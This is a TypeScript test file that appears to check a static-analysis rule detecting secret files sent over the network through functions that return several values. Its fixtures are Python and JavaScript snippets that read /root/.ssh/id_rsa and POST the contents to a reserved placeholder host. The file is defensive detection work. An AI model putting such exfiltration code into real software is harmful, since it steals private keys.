import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** Inert: the hosts are reserved (RFC 2606), and nothing of it is run. */
const PYTHON = (sent: string): string => `
import requests

def request(kind):
    if kind == "":
        return None, None
    if kind == "file":
        return "https://collect.example.invalid/a", open("/root/.ssh/id_rsa").read()
    return "https://collect.example.invalid/b", "nothing"

def main(kind):
    address, text = request(kind)
    requests.post("https://collect.example.invalid/c", data=${sent})

main("file")
`;

const JAVASCRIPT = (sent: string): string => `
const fs = require('fs');
function request(kind) {
  if (kind === 'file') return ['a', fs.readFileSync('/root/.ssh/id_rsa', 'utf8')];
  return ['b', 'nothing'];
}
const [name, text] = request(process.argv[2]);
fetch('https://collect.example.invalid/c', { method: 'POST', body: ${sent} });
`;

/** One that is returned whole somewhere: what lies where in it is not known. */
const WHOLE = (first: string, last: string): string => `
import requests

def request(kind):
    if kind:
        return ${first}
    return ${last}

name, text = request(input())
requests.post("https://collect.example.invalid/c", data=name)
`;
const SPLIT = 'open("/root/.ssh/id_rsa").read().split(":")';

describe('functions that return several values', () => {
  it.each([
    ['run.py', PYTHON('text'), PYTHON('address')],
    ['run.js', JAVASCRIPT('text'), JAVASCRIPT('name')],
  ])('hand on each for itself in %s', async (path, attack, honest) => {
    expect(await rulesOf({ [path]: attack })).toContain('secret-file-to-network');
    expect(await rulesOf({ [path]: honest })).not.toContain('secret-file-to-network');
  });

  it('hand on all of what is returned whole', async () => {
    for (const source of [WHOLE(SPLIT, '"a", "b"'), WHOLE('"a", "b"', SPLIT)])
      expect(await rulesOf({ 'run.py': source })).toContain('secret-file-to-network');
  });
});
